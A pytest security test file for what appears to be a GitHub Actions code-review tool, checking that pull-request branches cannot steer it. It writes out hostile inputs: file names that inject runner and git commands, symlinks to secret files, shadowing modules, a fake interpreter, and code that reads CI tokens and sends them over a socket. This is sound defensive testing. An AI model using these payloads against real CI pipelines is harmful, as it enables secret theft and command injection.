"""Branches that mean harm: the reviewing half leaks nothing, obeys none of them and does not fall over."""

from __future__ import annotations

import json
import os

import pytest
from modereview.cli import main
from modereview.errors import InputError
from modereview.github import event, handover
from stage.repository import CLEAN, FAULTY, Repository
from stage.sandbox import needs_sandbox

SECRET = "ghs_16C7e42F292c6912E7710c838347Ae178B4a"


@pytest.fixture
def repository(tmp_path) -> Repository:
    return Repository(tmp_path / "train", fork=True)


@pytest.fixture
def reviewed(repository, tmp_path, monkeypatch, capsys):
    """Runs the whole command on a branch; gives the handover and what the log shows."""

    def run(head, base=None, *words):
        path = repository.pull_request(base or {"train.py": CLEAN}, head)
        monkeypatch.chdir(repository.folder)
        for name in ("GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY"):
            monkeypatch.setenv(name, str(tmp_path / name))
        monkeypatch.setenv("GITHUB_TOKEN", SECRET)
        code = main(
            ["github", "--event", str(path), "--handover", str(tmp_path / "h.json"), *(words or ["--static"])]
        )
        assert code in (0, 1)
        return handover.read(tmp_path / "h.json"), capsys.readouterr().out

    return run


def commands(log):
    """The lines that the runner would take for commands."""
    return [line for line in log.splitlines() if line.lstrip().startswith("::") or "##[" in line]


def test_a_link_to_a_file_outside_is_not_read(repository, reviewed, tmp_path):
    (tmp_path / "secret.py").write_text(f"import torch\nKEY = '{SECRET}'\n")
    (repository.folder / "link.py").symlink_to(tmp_path / "secret.py")
    handed, log = reviewed({"train.py": FAULTY})
    assert handed.reviewed == ("train.py",)
    assert SECRET not in log + str(handed)


def test_a_link_to_a_folder_outside_is_not_followed(repository, reviewed, tmp_path):
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "train.py").write_text(FAULTY)
    (repository.folder / "inside").symlink_to(tmp_path / "outside")
    handed, _ = reviewed({"other.py": "import torch\n"})
    assert handed.reviewed == ("other.py",)


def test_a_file_swapped_for_a_link_after_the_checkout_is_not_read(repository, tmp_path, monkeypatch, capsys):
    path = repository.pull_request({"train.py": CLEAN}, {"train.py": FAULTY})
    (tmp_path / "secret.py").write_text(f"import torch\nKEY = '{SECRET}'\n")
    (repository.folder / "train.py").unlink()
    (repository.folder / "train.py").symlink_to(tmp_path / "secret.py")
    monkeypatch.chdir(repository.folder)
    assert main(["github", "--event", str(path), "--static", "--handover", str(tmp_path / "h.json")]) == 0
    assert handover.read(tmp_path / "h.json").reviewed == ()
    assert SECRET not in capsys.readouterr().out


@pytest.mark.parametrize(
    "name",
    [
        "::error::x.py",
        "a\n::set-output name=findings::0.py",
        "a\n::add-mask::x.py",
        "##[add-path]x.py",
        "--upload-pack=touch x.py",
        ":(top)x.py",
        "*.py",
        "ünïcödé ~ $(touch y).py",
        "a]b%0A::error::.py",
        "@octocat.py",
    ],
)
def test_names_of_files_steer_neither_git_nor_the_runner(repository, reviewed, tmp_path, name):
    handed, log = reviewed({name: FAULTY})
    assert handed.reviewed == (name,)
    assert [told.path for told in handed.findings if told.rule == "MR102"] == [name]
    ours = [line for line in commands(log) if line.startswith(("::error file=", "::notice file="))]
    assert commands(log) == ours
    assert len(ours) == len(handed.findings)
    assert (tmp_path / "GITHUB_OUTPUT").read_text().startswith("findings=1\nfixed=0\nhandover=")
    assert not (repository.folder / "y").exists()


@pytest.mark.parametrize(
    "word", ["::add-mask::x", "::stop-commands::x", "##[set-env name=PATH;]x", "%0A::error::x"]
)
def test_lines_of_code_give_the_runner_no_commands(reviewed, word):
    code = FAULTY.replace("        loss = criterion", f'        """\n{word}\n"""\n        loss = criterion')
    code = code.replace("model(inputs), labels", f"model(inputs), labels  # {word}\n")
    handed, log = reviewed({"train.py": code})
    assert handed.reviewed == ("train.py",)
    assert all(line.startswith(("::error file=train.py", "::notice file=train.py")) for line in commands(log))


def test_what_goes_wrong_gives_the_runner_no_commands(repository, reviewed, monkeypatch, capsys):
    def fail(*_):
        raise InputError("train.py ##[add-path]x\n::error::y")

    monkeypatch.setattr("modereview.github.reviewing.checkout", fail)
    with pytest.raises(AssertionError):
        reviewed({"train.py": FAULTY})
    shown = capsys.readouterr().err
    assert "add-path" in shown
    assert commands(shown) == []


def test_a_diff_of_four_hundred_files_is_cut_and_that_is_said(reviewed):
    handed, _ = reviewed({f"m{n:03}.py": "import torch\n" for n in range(400)})
    assert len(handed.reviewed) == 300
    assert "Only the first 300 of 400 files were reviewed." in handed.notes


def test_a_file_of_megabytes_stops_nothing(reviewed):
    handed, _ = reviewed({"big.py": "import torch\n" + "x = 1\n" * 1_000_000, "train.py": FAULTY})
    assert "train.py" in handed.reviewed


def test_a_file_that_crashes_parsers_stops_nothing(reviewed):
    handed, _ = reviewed({"deep.py": "import torch\nx = " + "(" * 5_000 + ")" * 5_000, "train.py": FAULTY})
    assert handed.reviewed == ("train.py",)
    assert any("deep.py" in note for note in handed.notes)


@pytest.mark.parametrize(
    "attributes",
    [
        "*.py binary\n",
        "*.py diff=evil\n",
        "*.py filter=evil\n",
        "*.py export-ignore\n",
    ],
)
def test_attributes_of_the_branch_hide_no_fault(reviewed, attributes):
    handed, _ = reviewed({"train.py": FAULTY, ".gitattributes": attributes})
    assert [told.known for told in handed.findings if told.rule == "MR102"] == [False]


def test_a_gitignore_of_the_branch_hides_no_fault(reviewed):
    handed, _ = reviewed({"train.py": FAULTY, ".gitignore": "*.py\n"})
    assert handed.reviewed == ("train.py",)


def test_a_baseline_of_the_branch_hides_no_fault(repository, reviewed):
    settings = '[tool.modereview]\nbaseline = "known.json"\nexclude = ["*.py"]\n'
    handed, _ = reviewed({"train.py": FAULTY, "pyproject.toml": settings, "known.json": "{}"})
    assert [told.rule for told in handed.findings if told.rule == "MR102"] == ["MR102"]


def test_modules_of_the_branch_are_not_taken_for_ours(reviewed, tmp_path):
    # Python looks into the folder it is started in first, and the workspace is the branch's.
    spy = f"open({str(tmp_path / 'ran')!r}, 'a').write(__name__)\n"
    ours = ("libcst", "torch", "ruff", "json", "pydantic", "httpx", "modereview")
    wrong = {"wrong.py": "import torch\nx = = 1\n", "train.py": FAULTY}
    handed, _ = reviewed({**{f"{name}.py": spy for name in ours}, **wrong})
    assert any("wrong.py" in note for note in handed.notes)
    assert not (tmp_path / "ran").exists()


@pytest.mark.parametrize("place", [".venv", "tools/venv"])
@pytest.mark.parametrize("named", ["by the base", "by the workflow", "as a folder"])
def test_an_interpreter_of_the_branch_is_not_started(repository, reviewed, tmp_path, place, named):
    python = f"{place}/bin/python"
    ran = tmp_path / "ran"
    evil = repository.folder / "evil" / "bin" / "python"
    evil.parent.mkdir(parents=True)
    evil.write_text(f"#!/bin/sh\ntouch {ran}\n")
    evil.chmod(0o755)
    (repository.folder / place).parent.mkdir(exist_ok=True)
    (repository.folder / place).symlink_to(evil.parents[1])
    base = {"train.py": CLEAN}
    if named == "by the base":
        base["pyproject.toml"] = f"[tool.modereview]\npython = '{python}'\n"
    words = {"by the workflow": ["--python", python], "as a folder": ["--python", place]}.get(
        named, ["--fail-on=error"]
    )
    handed, _ = reviewed({"train.py": FAULTY}, base, *words)
    assert (
        "Only read, nothing is proved: the interpreter is one that the branch brings itself." in handed.notes
    )
    assert not ran.exists()


@pytest.mark.parametrize("sha", ["main", "--exec=id", "a" * 39, "A" * 40, None, 7])
def test_an_event_without_commits_is_refused(tmp_path, sha):
    document = {"pull_request": {"number": 1, "head": {"sha": sha}, "base": {"sha": "b" * 40}}}
    (tmp_path / "event.json").write_text(json.dumps(document))
    with pytest.raises(InputError, match="names no commit"):
        event.read(tmp_path / "event.json")


ATTACK = """

def _attack():
    import os, socket
    token = os.environ.get("GITHUB_TOKEN", "") + os.environ.get("OPENAI_API_KEY", "")
    print("::set-output name=findings::0")
    print("::error::" + token)
    for name in ("HANDOVER", "GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY"):
        try:
            open("PLACE/" + name, "a").write("hacked")
        except OSError:
            pass
    try:
        socket.create_connection(("127.0.0.1", PORT), 1).send(token.encode())
    except OSError:
        pass
    raise SystemExit(0)
"""


@needs_sandbox
def test_code_that_attacks_while_it_runs_gets_nothing_and_reaches_nobody(reviewed, tmp_path, monkeypatch):
    import socket

    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.1)
    place, port = str(tmp_path), str(listener.getsockname()[1])
    code = FAULTY.replace("    # one epoch\n", "    _attack()\n")
    code = code.replace(
        "def train_one", ATTACK.replace("PLACE", place).replace("PORT", port) + "\n\ndef train_one", 1
    )
    handed, log = reviewed({"train.py": code}, None, "--fail-on=error")
    with pytest.raises(TimeoutError):
        listener.accept()
    assert handed.findings
    assert all(told.state != "fixed" for told in handed.findings)
    left = (tmp_path / "GITHUB_OUTPUT").read_text() + (tmp_path / "GITHUB_STEP_SUMMARY").read_text()
    assert "hacked" not in left + str(handed)
    assert SECRET not in log + left + str(handed)
    assert not (tmp_path / "HANDOVER").exists()
    assert "GITHUB_TOKEN" in os.environ
